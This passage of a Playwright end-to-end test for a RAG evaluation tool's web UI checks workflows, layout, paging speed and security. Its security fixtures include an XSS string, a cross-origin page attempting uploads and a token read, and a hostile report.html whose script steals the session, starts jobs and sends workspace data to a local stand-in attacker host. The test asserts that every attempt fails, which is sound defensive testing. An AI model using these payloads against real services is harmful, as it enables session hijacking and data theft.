// End-to-end test of `ragtester serve` in headless Debian Chromium (playwright-core; no browser download):
// the four stages through the page, charts, the detail view, comparison and audit labelling; a model answer
// carrying <script> shows as text and runs nothing; a 50,000-result run pages in under a second per page;
// a run directory from elsewhere whose report.html carries script can neither drive the UI nor send
// anything out. At a laptop's width (1,280 px) and a phone's (390 px), the results page and the report are
// held to their layout: no label wider than its box, no chart label over another or crossed by an interval
// mark, tables within their cards (or scrolling inside a box that shows it), the tabs never covered; a
// full-page screenshot of each is kept (in DIR with --screenshots, else in the test's folder).
//
//   RAGTESTER_BIN=target/debug/ragtester node web-tests/e2e.mjs [--screenshots DIR]
import { chromium } from 'playwright-core';
import assert from 'node:assert/strict';
import { spawn, execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import readline from 'node:readline';

const bin = path.resolve(process.env.RAGTESTER_BIN || 'target/debug/ragtester');
const shotsAt = process.argv.indexOf('--screenshots');
const shots = shotsAt > 0 ? path.resolve(process.argv[shotsAt + 1]) : null;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ragtester-e2e-'));
const env = { ...process.env, RAGTESTER_CACHE_DIR: path.join(tmp, 'cache') };
const XSS = '<script>alert(1)</script><img src=x onerror="alert(2)">';
const BIG = 50_000;

// Waits until the results page has drawn RUN: the page marks its section with the run it shows only once the
// cards, charts and first page of results are that run's (a table or chart of the run shown before would
// otherwise be measured while it is being replaced).
const runShown = (page, run) => page.waitForSelector(`section#results:not([hidden])[data-run="${run}"]`);

function ragtester(...args) {
  execFileSync(bin, args, { env, stdio: ['ignore', 'ignore', 'inherit'] });
}

const readJsonl = (file) => fs.readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
const writeJsonl = (file, rows) => fs.writeFileSync(file, rows.map((r) => JSON.stringify(r)).join('\n') + '\n');

// A run of at least 50,000 judged cells: the demo's records repeated under new case ids, one answer carrying
// markup. Then `ragtester report` summarises it as it would any run.
function buildBigRun(demo, big) {
  fs.mkdirSync(big, { recursive: true });
  for (const f of ['documents.jsonl', 'configs.jsonl']) fs.copyFileSync(path.join(demo, f), path.join(big, f));
  const cases = readJsonl(path.join(demo, 'suite.jsonl'));
  const answers = readJsonl(path.join(demo, 'answers.jsonl'));
  const verdicts = readJsonl(path.join(demo, 'verdicts.jsonl'));
  const copies = Math.ceil(BIG / answers.length);
  const bigCases = []; const bigAnswers = []; const bigVerdicts = [];
  for (let k = 0; k < copies; k++) {
    for (const c of cases) bigCases.push({ ...c, id: `${c.id}-${k}` });
    for (const a of answers) bigAnswers.push({ ...a, case_id: `${a.case_id}-${k}` });
    for (const v of verdicts) bigVerdicts.push({ ...v, case_id: `${v.case_id}-${k}` });
  }
  bigAnswers[0].answer = `${XSS} ${bigAnswers[0].answer}`;
  writeJsonl(path.join(big, 'suite.jsonl'), bigCases);
  writeJsonl(path.join(big, 'answers.jsonl'), bigAnswers);
  writeJsonl(path.join(big, 'verdicts.jsonl'), bigVerdicts);
  ragtester('report', big);
  return bigAnswers.length;
}

// What is wrong with a page's layout, as sentences: a label wider than its box, two chart labels over
// each other, a label or a printed value crossed by an interval mark. Runs in the page.
function layoutProblems({ labels, charts }) {
  const shown = (e) => e.offsetParent !== null && e.getClientRects().length > 0;
  const meets = (a, b) => a.left < b.right - 1 && b.left < a.right - 1 && a.top < b.bottom - 1 && b.top < a.bottom - 1;
  const name = (e) => `"${e.textContent.trim().slice(0, 40)}"`;
  const out = [];
  for (const e of document.querySelectorAll(labels)) {
    if (shown(e) && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX !== 'auto') out.push(`${name(e)} is ${e.scrollWidth}px in a ${e.clientWidth}px box`);
  }
  for (const chart of document.querySelectorAll(charts)) {
    if (!shown(chart)) continue;
    const texts = [...chart.querySelectorAll('.label, .figure')].filter(shown).map((e) => [e, e.getBoundingClientRect()]);
    const marks = [...chart.querySelectorAll('.ci')].filter(shown).map((e) => e.getBoundingClientRect());
    for (let i = 0; i < texts.length; i++) {
      for (let j = i + 1; j < texts.length; j++) if (meets(texts[i][1], texts[j][1])) out.push(`${name(texts[i][0])} over ${name(texts[j][0])}`);
      if (marks.some((m) => meets(texts[i][1], m))) out.push(`an interval mark crosses ${name(texts[i][0])}`);
    }
  }
  return out.slice(0, 12);
}

// A whole-page screenshot, cut at SHOT_MAX_HEIGHT: Chromium cannot capture a page of tens of thousands
// of pixels everywhere (a headless build without a GPU refuses with "Unable to capture screenshot").
const SHOT_MAX_HEIGHT = 12000;
async function tallShot(page, file) {
  const { width, height } = await page.evaluate(() => ({ width: document.documentElement.clientWidth, height: document.documentElement.scrollHeight }));
  const clip = { x: 0, y: 0, width, height: Math.min(height, SHOT_MAX_HEIGHT) };
  await page.screenshot({ path: file, fullPage: true, clip });
  if (height > SHOT_MAX_HEIGHT) console.log(`  ${path.basename(file)}: the first ${SHOT_MAX_HEIGHT} of ${height}px`);
}

async function startServer(workspace, runs) {
  const args = ['serve', '--addr', '127.0.0.1:0', '--workspace', workspace];
  for (const r of runs) args.push('--run', r);
  const child = spawn(bin, args, { env, stdio: ['ignore', 'pipe', 'inherit'] });
  const lines = readline.createInterface({ input: child.stdout });
  const url = await new Promise((resolve, reject) => {
    child.on('exit', (code) => reject(new Error(`serve exited with ${code}`)));
    lines.on('line', (line) => {
      const m = line.match(/^ragtester UI on (http:\/\/\S+)\/\?token=([0-9a-f]{64})$/);
      if (m) resolve({ base: m[1], token: m[2] });
    });
  });
  return { child, url: url.base, token: url.token, printed: `${url.base}/?token=${url.token}` };
}

// Node's own requests to the UI, as a script makes them: with the access token.
let TOKEN = null;
const authed = (url, options = {}) => fetch(url, { ...options, headers: { ...(options.headers || {}), authorization: `Bearer ${TOKEN}` } });

// Start a job with `action` and wait until it (and any other) has finished: the job list grows by one and
// no entry is running. A failed job fails the test with its message.
async function job(page, action, timeout = 240_000) {
  const before = await page.locator('#job-list li').count();
  await action();
  await page.waitForFunction((n) => {
    const items = [...document.querySelectorAll('#job-list li')];
    return items.length > n && items.every((li) => li.dataset.status !== 'running');
  }, before, { timeout });
  const failed = await page.$$eval('#job-list li[data-status=failed]', (els) => els.map((e) => e.textContent));
  assert.deepEqual(failed, [], 'no job failed');
}

const step = (name) => console.log(`· ${name}`);

// A page of another origin (another port on localhost, as a dev server or a rebinding page would be) tries
// what a browser lets any page try without asking: a multipart upload and a text/plain post (simple requests:
// no preflight), and reading the CSRF token. The UI must refuse the writes and the browser the read.
async function crossSiteAttempts(context, ui, workspace) {
  const docs = () => fs.readdirSync(path.join(workspace, 'docs')).sort();
  const before = docs();
  const jobsBefore = await (await authed(`${ui}/api/jobs`)).json();
  const attacker = http.createServer((_, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<!doctype html><title>elsewhere</title><p>nothing to see</p>');
  });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const origin = `http://localhost:${attacker.address().port}`;
  const page = await context.newPage();
  try {
    await page.goto(origin);
    const outcome = await page.evaluate(async (target) => {
      const form = new FormData();
      form.append('file', new Blob(['# Planted\n\nwritten by another site']), 'planted.md');
      await fetch(`${target}/api/documents`, { method: 'POST', mode: 'no-cors', body: form });
      await fetch(`${target}/api/documents/samples`, {
        method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}',
      });
      await fetch(`${target}/api/jobs/docgen`, {
        method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"count": 1}',
      });
      let token = null;
      try { token = (await (await fetch(`${target}/api/session`)).json()).csrf; } catch { /* blocked: no CORS */ }
      return { token };
    }, ui);
    assert.equal(outcome.token, null, 'another origin read the session token');
  } finally {
    await page.close();
    attacker.close();
  }
  assert.deepEqual(docs(), before, 'a cross-origin upload wrote a file');
  assert.deepEqual(await (await authed(`${ui}/api/jobs`)).json(), jobsBefore, 'a cross-origin post started a job');
}

// A report.html that someone else's run directory carries, written to take over the UI that serves it:
// it reads the session, uploads a file, starts a job, reads the workspace and sends it to another server.
function hostileReport(attackerPort) {
  const out = `http://127.0.0.1:${attackerPort}`;
  return `<!doctype html><html><head><title>report</title>
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"></head><body><h1 id="hostile">A report</h1>
<img src="${out}/img"><link rel="stylesheet" href="${out}/css"><iframe src="${out}/frame"></iframe>
<form id="f" action="${out}/form" method="post"><input name="x" value="y"></form>
<script>
document.title = 'pwned';
(async () => {
  const session = await (await fetch('/api/session')).json();
  const form = new FormData();
  form.append('file', new Blob(['planted by a report']), 'planted.md');
  await fetch('/api/documents', { method: 'POST', headers: { 'x-ragtester-csrf': session.csrf }, body: form });
  await fetch('/api/jobs/docgen', { method: 'POST', headers: { 'x-ragtester-csrf': session.csrf, 'content-type': 'application/json' }, body: '{"count": 1}' });
  const ws = await (await fetch('/api/workspace')).text();
  navigator.sendBeacon('${out}/beacon', ws);
  new Image().src = '${out}/exfil?' + encodeURIComponent(ws);
})();
document.getElementById('f').submit();
</script></body></html>`;
}

// Opened in the browser that holds the UI's session cookie, the hostile report runs nothing and reaches
// nothing: no request to the other server, no file, no job, its title unchanged.
async function hostileReportIsInert(context, ui, workspace, hits) {
  const docs = () => fs.readdirSync(path.join(workspace, 'docs')).sort();
  const before = docs();
  const jobsBefore = await (await authed(`${ui}/api/jobs`)).json();
  const page = await context.newPage();
  try {
    const response = await page.goto(`${ui}/api/runs/hostile/report`);
    assert.equal(response.status(), 200);
    assert.match(response.headers()['content-security-policy'], /^sandbox;.*script-src 'none'/);
    await page.waitForSelector('#hostile');
    await page.waitForTimeout(1500);
    assert.equal(await page.title(), 'report', 'the report\'s script ran');
  } finally {
    await page.close();
  }
  assert.deepEqual(hits, [], 'the report reached another server');
  assert.deepEqual(docs(), before, 'the report uploaded a file');
  assert.deepEqual(await (await authed(`${ui}/api/jobs`)).json(), jobsBefore, 'the report started a job');
}

async function main() {
  step('demo run and a 50,000-result run');
  const demo = path.join(tmp, 'demo');
  ragtester('demo', '--out', demo);
  // Two of its configurations compared answer by answer: the report and the results page show it.
  const [first, second] = readJsonl(path.join(demo, 'configs.jsonl'));
  ragtester('judge', demo, '--pairwise', first.id, second.id);
  ragtester('report', demo);
  const big = path.join(tmp, 'big');
  const cells = buildBigRun(demo, big);
  assert.ok(cells >= BIG);
  // Answers another tool wrote: one configuration exported as a RAGAS file, imported as a run and judged.
  const ragasFile = path.join(tmp, 'theirs.jsonl');
  ragtester('export', demo, '--format', 'ragas', '--config', first.id, '--out', ragasFile);
  const imported = path.join(tmp, 'imported');
  ragtester('import', '--answers', ragasFile, '--system', 'their-rag', '--docs', path.join(demo, 'corpus'), '--out', imported);
  ragtester('judge', imported);
  ragtester('report', imported);
  // A team's chat log: a turn answered after its earlier turns, imported with them.
  const chatLog = path.join(tmp, 'chat-log.jsonl');
  fs.writeFileSync(chatLog, JSON.stringify({ id: 'log-17', messages: [
    { role: 'user', content: 'Which valve protects the pump?' },
    { role: 'assistant', content: 'The relief valve.' },
    { role: 'user', content: 'At what pressure does it open?' }],
  answer: 'At 4.5 bar.', contexts: [], reference: 'The relief valve opens at 4.5 bar.' }) + '\n');
  const logged = path.join(tmp, 'logged');
  ragtester('import', '--answers', chatLog, '--system', 'chat', '--docs', path.join(demo, 'corpus'), '--out', logged);
  ragtester('judge', logged);
  ragtester('report', logged);

  // Someone else's run: the demo's records with a report.html written to attack whoever serves it.
  const hits = [];
  const attacker = http.createServer((req, res) => { hits.push(req.url); res.end(''); });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const hostile = path.join(tmp, 'hostile');
  fs.cpSync(demo, hostile, { recursive: true });
  fs.writeFileSync(path.join(hostile, 'report.html'), hostileReport(attacker.address().port));

  const { child, url, token, printed } = await startServer(path.join(tmp, 'ws'), [demo, big, imported, hostile, logged]);
  TOKEN = token;
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
      '--disable-component-update', '--no-first-run'],
  });
  try {
    // One browser session: the page opened with the printed address holds the session cookie.
    const context = await browser.newContext({ viewport: { width: 1440, height: 1000 } });
    const page = await context.newPage();
    const dialogs = [];
    page.on('dialog', async (d) => { dialogs.push(d.message()); await d.dismiss(); });
    const pageErrors = [];
    page.on('pageerror', (e) => pageErrors.push(e.message));
    await page.goto(printed);
    assert.equal(page.url(), `${url}/`, 'the token left the address bar');

    step('serve --run opens on that run\'s results');
    await runShown(page, 'demo');
    assert.equal(await page.inputValue('#result-run'), 'demo');
    assert.equal(await page.getAttribute('nav button[data-tab=results]', 'class'), 'active');

    step('stage 1: documents — samples, an upload, generated');
    await page.click('nav button[data-tab=documents]');
    await page.click('#samples');
    await page.waitForFunction(() => document.querySelectorAll('#doc-table tbody tr').length === 8);
    const upload = path.join(tmp, 'site-notes.md');
    fs.writeFileSync(upload, '# Site notes\n\n## Gate\n\nThe north gate code is 4411 and it closes at 22:00.\n');
    await page.setInputFiles('#upload-files', upload);
    await page.click('#upload-form button[type=submit]');
    await page.waitForFunction(() => document.querySelectorAll('#doc-table tbody tr').length === 9);
    await page.fill('#docgen-form [name=count]', '1');
    await page.selectOption('#docgen-form [name=language]', 'zh');
    await job(page, () => page.click('#docgen-form button[type=submit]'));
    await page.waitForFunction(() => document.querySelectorAll('#doc-table tbody tr').length === 10);

    step('stage 2: a suite');
    await page.click('nav button[data-tab=suites]');
    await page.fill('#suite-form [name=name]', 's1');
    await page.fill('#suite-form [name=n_test]', '3');
    await job(page, () => page.click('#suite-form button[type=submit]'));
    await page.waitForSelector('#suite-table tbody tr >> text=s1');

    step('stage 3: a matrix run with live progress, judged');
    await page.click('nav button[data-tab=runs]');
    await page.selectOption('#run-suite', 's1');
    await page.fill('#run-form [name=name]', 'r1');
    await page.fill('#run-form [name=top_k]', '2,4');
    await page.check('#run-form [name=retrievers][value=oracle]');
  await page.check('#run-form [name=retrievers][value=none]');
    await job(page, () => page.click('#run-form button[type=submit]'));
    const runJob = await page.textContent('#job-list li:first-child');
    assert.match(runJob, /run run:r1 · report · done/);
    await page.waitForSelector('#run-table tbody tr >> text=r1');

    step('stage 4: results — cards, charts, filters, detail');
    await page.click('#run-table tbody tr:has-text("r1") button:has-text("Results")');
    await runShown(page, 'r1');
    await page.waitForSelector('#result-table tbody tr');
    assert.ok(await page.locator('#chart-fail .bar-row').count() >= 4, 'fail-rate bars drawn');
    // Every bar as wide as its value, and every interval drawn (the page's policy refuses inline styles).
    const drawn = await page.locator('#chart-fail .bar-row').evaluateAll((rows) => rows.map((r) => {
      const track = r.querySelector('.track').getBoundingClientRect().width;
      const fill = r.querySelector('.fill').getBoundingClientRect().width;
      const value = parseFloat(r.querySelector('.figure').textContent) / 100;
      return Math.abs(fill - track * value) <= 2 && (value === 0 || r.querySelector('.ci').getBoundingClientRect().width > 0);
    }));
    assert.ok(drawn.every(Boolean), `a fail-rate bar is not as wide as its value: ${drawn}`);
    assert.ok(await page.locator('#chart-latency .bar-row .fill').count() >= 8, 'latency bars drawn');
    assert.ok(await page.locator('#chart-heat td').count() >= 4, 'heat map drawn');
    assert.match(await page.textContent('#cards'), /Pass rate/);
    // The oracle reference point beside the retrievers: each configuration's headroom, as a card.
    await page.waitForSelector('#cards .headroom');
    assert.ok(await page.locator('#cards .cause').count() >= 1, 'the top causes stand among the cards');
    assert.match(await page.textContent('#cards .cause'), /→ /, 'each with what to change');
    assert.equal(await page.locator('#cards .headroom').count(), 3, 'the three largest headrooms');
    assert.match(await page.textContent('#cards .headroom'), /with the oracle's passages; perfect retrieval fixes \d+ of \d+ failures/);
    // The closed book beside them: its leaky cases counted per model (the offline reader passes nothing
    // answerable without passages, so none of them is leaky).
    assert.equal(await page.locator('#cards .leaky').count(), 1, 'one card for the leaky cases');
    assert.match(await page.textContent('#cards .leaky'), /Leaky cases\s*0 of \d+\s*offline passes 0 of \d+ closed book/);
    // The judge goes by the name the command line gives it.
    assert.match(await page.textContent('#cards .judge'), /Judge\s*offline/);
    // Chart labels stay distinct when shortened.
    const labels = await page.locator('#chart-fail .bar-row .label').allTextContents();
    assert.equal(new Set(labels).size, labels.length, `distinct chart labels: ${labels}`);
    const heads = await page.locator('#chart-heat thead th').allTextContents();
    assert.equal(new Set(heads).size, heads.length, `distinct heat-map columns: ${heads}`);
    // At a laptop's and a phone's width every chart fits its panel (the heat map scrolls inside its own).
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 900 });
      const fits = await page.evaluate(() => ({
        page: document.documentElement.scrollWidth,
        charts: [...document.querySelectorAll('.charts figure')].map((f) => { const svg = f.querySelector('svg'); return !svg || svg.getBoundingClientRect().width <= f.clientWidth + 1; }),
      }));
      const wide = await page.evaluate((w) => [...document.querySelectorAll('body *')].filter((e) => e.getBoundingClientRect().right > w + 1 && e.offsetParent !== null && e.parentElement.getBoundingClientRect().right <= w + 1).slice(0, 12).map((e) => `${e.tagName}#${e.id}.${e.className} ${Math.round(e.getBoundingClientRect().right)}`), width);
      assert.ok(fits.page <= width, `at ${width}px the results page is ${fits.page}px wide: ${wide.join(', ')}`);
      assert.ok(fits.charts.every(Boolean), `at ${width}px a chart runs out of its panel`);
      const layout = await page.evaluate(layoutProblems, { labels: '.bar-row .label, nav button, #cards .card b', charts: '.bar-rows' });
      assert.deepEqual(layout, [], `at ${width}px: ${layout.join('; ')}`);
      // The tabs stay on one line.
      const tabTops = await page.locator('nav button').evaluateAll((bs) => new Set(bs.map((b) => Math.round(b.getBoundingClientRect().top))).size);
      assert.equal(tabTops, 1, `at ${width}px the tabs wrap`);
      const activeInSight = await page.evaluate(() => { const r = document.querySelector('nav button.active').getBoundingClientRect(); return r.left >= 0 && r.right <= window.innerWidth; });
      assert.ok(activeInSight, `at ${width}px the tab shown is out of sight`);
      await tallShot(page, path.join(shots || tmp, `ui-results-${width}.png`));
      // A case opened: its panel leaves the tabs in sight and usable.
      await page.click('#result-table tbody tr:first-child');
      await page.waitForSelector('#detail:not([hidden]) #detail-query');
      const covered = await page.evaluate(() => {
        const d = document.querySelector('#detail').getBoundingClientRect();
        return [...document.querySelectorAll('nav button')].filter((b) => {
          // The middle of what the tabs' strip shows of the button (the strip scrolls sideways on a phone).
          const r = b.getBoundingClientRect();
          const strip = b.parentElement.getBoundingClientRect();
          const [left, right] = [Math.max(r.left, strip.left), Math.min(r.right, strip.right)];
          if (right - left < 4) return false;
          const hit = document.elementFromPoint((left + right) / 2, r.top + r.height / 2);
          return (hit !== b && !b.contains(hit)) || (r.bottom > d.top && left < d.right && right > d.left);
        }).map((b) => b.textContent);
      });
      await page.screenshot({ path: path.join(shots || tmp, `ui-case-${width}.png`) });
      assert.deepEqual(covered, [], `at ${width}px the case panel covers the tabs`);
      await page.click('#detail .close');
    }
    await page.setViewportSize({ width: 1440, height: 1000 });
    // How far the verdicts can be trusted stands beside them: the built-in profile's measured agreement.
    assert.match(await page.textContent('#cards .agreement'), /held out in 5-fold cross-validation on halluqa/);
    const unfiltered = await page.textContent('#page-info');
    await page.selectOption('#filters [name=outcome]', { index: 1 });
    await page.waitForFunction((b) => document.querySelector('#page-info').textContent !== b, unfiltered);
    if (shots) {
      fs.mkdirSync(shots, { recursive: true });
      await page.screenshot({ path: path.join(shots, 'ui-results.png') });
    }
    await page.click('#result-table tbody tr:first-child');
    await page.waitForSelector('#detail:not([hidden]) #detail-query');
    assert.ok((await page.textContent('#detail')).includes('Verdicts'));
    if (shots) await page.screenshot({ path: path.join(shots, 'ui-case.png') });
    await page.click('#detail .close');
    // A conversation's turn is marked in the table and read with its whole conversation.
    await page.selectOption('#filters [name=outcome]', '');
    await page.selectOption('#filters [name=strategy]', 'conversation');
    await page.waitForSelector('#result-table tbody tr .tag.turn');
    await page.click('#result-table tbody tr:has(.tag.turn)');
    await page.waitForSelector('#detail:not([hidden]) #detail-conversation li');
    assert.ok(await page.locator('#detail-conversation li').count() >= 2, 'every turn of the conversation');
    assert.equal(await page.locator('#detail-conversation li.current').count(), 1);
    await page.click('#detail .close');
    await page.selectOption('#filters [name=strategy]', '');

    step('compare and audit');
    await page.click('nav button[data-tab=compare]');
    await page.selectOption('#compare-form [name=before]', 'r1');
    await page.selectOption('#compare-form [name=after]', 'r1');
    await page.click('#compare-form button[type=submit]');
    await page.waitForSelector('#compare-out table');
    await page.click('nav button[data-tab=audit]');
    await page.selectOption('#audit-form [name=run]', 'r1');
    await job(page, () => page.click('#audit-draw'));
    await page.click('#audit-load');
    await page.waitForSelector('#audit-table tbody tr[data-row="0"]');
    await page.click('#audit-table tbody tr[data-row="0"] button:has-text("false alarm")');
    await page.waitForFunction(() => document.querySelector('#audit-table tbody tr[data-row="0"]')?.textContent.includes('false'));
    await job(page, () => page.click('#audit-score'));
    await page.click('#audit-load');
    await page.waitForFunction(() => /1 of \d+ labelled/.test(document.querySelector('#audit-summary').textContent));
    // The audit's label corrects the pass rates the results show, each configuration with its interval.
    await page.click('nav button[data-tab=runs]');
    await page.click('#run-table tbody tr:has-text("r1") button:has-text("Results")');
    await runShown(page, 'r1');
    await page.waitForSelector('#corrected-rates tbody tr');
    assert.ok(await page.locator('#corrected-rates tbody tr').count() >= 2, 'a corrected rate per configuration');
    assert.match(await page.textContent('#corrected-rates'), /pooled|\d+/);
    // Two of its configurations compared from the page: a job, then the win rates on the results.
    await job(page, () => page.click('#pairwise-form button[type=submit]'));
    await page.click('nav button[data-tab=runs]');
    await page.click('#run-table tbody tr:has-text("r1") button:has-text("Results")');
    await runShown(page, 'r1');
    await page.waitForSelector('#pairwise-table tbody tr');
    assert.match(await page.textContent('#pairwise-table'), /A's win rate/);
    // Each side's won cases are listed, not only the totals.
    const [, aWins, bWins] = await page.$$eval('#pairwise-table tbody tr:first-child td', (tds) => tds.map((t) => t.textContent));
    assert.equal(await page.locator('#pairwise-a-won li').count(), Math.min(Number(aWins), 50), 'the cases A won are listed');
    assert.equal(await page.locator('#pairwise-b-won li').count(), Math.min(Number(bWins), 50), 'the cases B won are listed');

    step('a document that cannot be read: the job goes on and says which');
    await page.click('nav button[data-tab=documents]');
    const broken = path.join(tmp, 'broken.pdf');
    fs.writeFileSync(broken, '%PDF-1.7 not really a PDF');
    await page.setInputFiles('#upload-files', broken);
    await page.click('#upload-form button[type=submit]');
    await page.waitForFunction(() => document.querySelectorAll('#doc-table tbody tr').length === 11);
    await page.click('nav button[data-tab=suites]');
    await page.fill('#suite-form [name=name]', 's2');
    await page.fill('#suite-form [name=n_test]', '1');
    await job(page, () => page.click('#suite-form button[type=submit]'));
    const problems = await page.textContent('#job-list li:first-child .job-problems');
    assert.match(problems, /error: .*broken\.pdf/);

    step('an imported run of another tool\'s answers reads like any other');
    await page.click('nav button[data-tab=results]');
    await page.selectOption('#result-run', 'imported');
    await runShown(page, 'imported');
    await page.waitForFunction(() => /target their-rag \(imported\)/.test(document.querySelector('#chart-fail').textContent));
    await page.waitForSelector('#result-table tbody tr');
    await page.click('#result-table tbody tr:first-child');
    await page.waitForSelector('#detail:not([hidden]) #detail-query');
    await page.click('#detail .close');
    // A logged turn is read with the history its log recorded, and the row's own id.
    await page.selectOption('#result-run', 'logged');
    await runShown(page, 'logged');
    await page.waitForFunction(() => /chat/.test(document.querySelector('#chart-fail').textContent));
    await page.click('#result-table tbody tr:first-child');
    await page.waitForSelector('#detail:not([hidden]) #detail-history');
    assert.match(await page.textContent('#detail-history'), /The relief valve\./);
    assert.match(await page.textContent('#detail-row-id'), /log-17/);
    await page.click('#detail .close');

    step('50,000 results: paging under a second, markup shown as text');
    await page.click('nav button[data-tab=results]');
    await page.selectOption('#result-run', 'big');
    await runShown(page, 'big');
    await page.waitForFunction((n) => document.querySelector('#page-info').textContent.includes(`${n} results`), cells, { timeout: 60_000 });
    const times = [];
    for (let i = 0; i < 5; i++) {
      const before = await page.textContent('#page-info');
      const t0 = Date.now();
      await page.click('#next');
      await page.waitForFunction((b) => document.querySelector('#page-info').textContent !== b, before);
      times.push(Date.now() - t0);
    }
    console.log(`  page turns (ms): ${times.join(', ')}`);
    assert.ok(Math.max(...times) < 1000, `every page under a second: ${times}`);
    const t0 = Date.now();
    await page.fill('#filters [name=q]', 'alert(1)');
    await page.waitForFunction(() => /of 1 · 1 results/.test(document.querySelector('#page-info').textContent));
    console.log(`  text search over ${cells} results: ${Date.now() - t0} ms (200 ms of it the typing pause)`);
    const shown = await page.textContent('#result-table tbody tr:first-child td.answer');
    assert.ok(shown.includes('<script>alert(1)</script>'), `markup shown as text: ${shown}`);
    assert.equal(await page.locator('#result-table script, #result-table img').count(), 0, 'no element injected');
    await page.click('#result-table tbody tr:first-child');
    await page.waitForSelector('#detail:not([hidden])');
    assert.ok((await page.textContent('#detail')).includes('<script>alert(1)</script>'));
    assert.equal(await page.locator('#detail script, #detail img').count(), 0);
    await page.waitForTimeout(300);
    assert.deepEqual(dialogs, [], 'no script ran');
    assert.deepEqual(pageErrors, [], 'no error in the page');

    step('pairwise win rates on the results page');
    await page.click('nav button[data-tab=results]');
    await page.selectOption('#result-run', 'demo');
    await runShown(page, 'demo');
    await page.waitForSelector('#pairwise-table tbody tr');
    assert.match(await page.textContent('#pairwise-table tbody tr:first-child'), /^all\d+\d+\d+\d+\.\d%/);
    // A simulated user's conversation is read turn by turn, with why the user said each message.
    await page.selectOption('#filters [name=strategy]', 'simulated');
    await page.waitForSelector('#result-table tbody tr:first-child td:has-text("simulated")');
    await page.click('#result-table tbody tr:first-child');
    await page.waitForSelector('#detail:not([hidden]) #detail-simulation li');
    assert.match(await page.textContent('#detail-simulation li:first-child'), /user \(open\)/);
    await page.click('#detail .close');
    await page.selectOption('#filters [name=strategy]', '');

    step('the HTML report: Diagnosis section with causes, evidence and advice');
    const report = await context.newPage();
    const reportErrors = [];
    report.on('pageerror', (e) => reportErrors.push(e.message));
    await report.goto(`${url}/api/runs/demo/report`);
    await report.waitForSelector('h2#diagnosis');
    assert.ok(await report.locator('#pairwise tr').count() >= 3, 'the pairwise table: header, all, slices');
    const causeRows = await report.locator('#causes tr[data-cause]').count();
    assert.ok(causeRows >= 1, 'the demo has failed cells, so the cause table has rows');
    const firstCause = await report.getAttribute('#causes tr[data-cause]', 'data-cause');
    assert.match(firstCause, /^[a-z_]+$/);
    assert.ok(await report.locator('#findings li[data-kind=cause]').count() >= 1, 'cause findings listed');
    assert.match(await report.textContent('#findings'), /→ /, 'each finding ends in advice');
    assert.ok(await report.locator('.case .evidence').count() >= 1, 'bad cases say why');
    assert.ok(await report.locator('#simulated-users tr').count() >= 2, 'simulated users per configuration');
    assert.ok(await report.locator('#tool-calls li').count() >= 1, 'the agent\'s tool calls');
    assert.deepEqual(reportErrors, []);
    // On a laptop screen the configurations tables fit without scrolling, and nothing widens the page.
    await report.setViewportSize({ width: 1280, height: 800 });
    const widths = await report.evaluate(() => ({
      page: document.documentElement.scrollWidth,
      tables: ['#configs', '#configs-retrieval'].map((id) => {
        const t = document.querySelector(id);
        return [t.scrollWidth, t.parentElement.clientWidth];
      }),
    }));
    assert.ok(widths.page <= 1280, `the report is ${widths.page}px wide`);
    for (const [table, room] of widths.tables) assert.ok(table <= room, `a configurations table is ${table}px in ${room}px`);
    if (shots) await report.screenshot({ path: path.join(shots, 'report.png'), fullPage: false });
    // The first screen at a laptop's and at a phone's width: the pass-rate chart, the causes and the trust
    // panel within the page, every bar within its track, no two labels alike; a screenshot of each.
    for (const width of [1280, 390]) {
      await report.setViewportSize({ width, height: 900 });
      const glance = await report.evaluate(() => {
        const inside = (el) => { const r = el.getBoundingClientRect(); return r.left >= -1 && r.right <= document.documentElement.clientWidth + 1; };
        const rows = [...document.querySelectorAll('#glance-pass-rate .pass-row')];
        return {
          page: document.documentElement.scrollWidth,
          panels: [...document.querySelectorAll('#at-a-glance .panel')].map(inside),
          rows: rows.length,
          bars: rows.map((r) => { const t = r.querySelector('.track').getBoundingClientRect(); const f = r.querySelector('.fill').getBoundingClientRect(); return f.right <= t.right + 1 && t.width > 20; }),
          labels: rows.map((r) => r.querySelector('.label').textContent),
        };
      });
      assert.ok(glance.page <= width, `at ${width}px the report is ${glance.page}px wide`);
      assert.ok(glance.panels.length === 3 && glance.panels.every(Boolean), `at ${width}px a panel overflows`);
      assert.ok(glance.rows >= 4 && glance.bars.every(Boolean), `at ${width}px a bar leaves its track`);
      assert.equal(new Set(glance.labels).size, glance.labels.length, `distinct labels: ${glance.labels}`);
      await report.screenshot({ path: path.join(shots || tmp, `report-first-screen-${width}.png`) });
      const layout = await report.evaluate(layoutProblems, { labels: '.pass-row .label, .bar-row .label, th', charts: '#glance-pass-rate, .chart-rows' });
      assert.deepEqual(layout, [], `report at ${width}px: ${layout.join('; ')}`);
      const tables = await report.evaluate((w) => [...document.querySelectorAll('table')].filter((t) => t.offsetParent !== null).flatMap((t) => {
        const box = t.closest('.wide');
        const room = (box || t.parentElement).clientWidth;
        const name = t.id || t.querySelector('th')?.textContent || 'a table';
        // At a laptop's width every table fits its box; narrower, a table may scroll, but only inside a box
        // that shows it does.
        if (w >= 1280 ? t.scrollWidth > room + 1 : !box && t.scrollWidth > room + 1) return [`${name} is ${t.scrollWidth}px in ${room}px`];
        return [];
      }), width);
      assert.deepEqual(tables, [], `report at ${width}px`);
      await tallShot(report, path.join(shots || tmp, `report-${width}.png`));
    }
    // No line or group said twice.
    const worth = await report.locator('#retrieval-worth li').allTextContents();
    assert.equal(new Set(worth).size, worth.length, `a retrieval line repeated: ${worth}`);
    const groups = await report.locator('#configs tr.axis-group').allTextContents();
    assert.equal(new Set(groups).size, groups.length, `a retriever group twice: ${groups}`);
    await report.close();

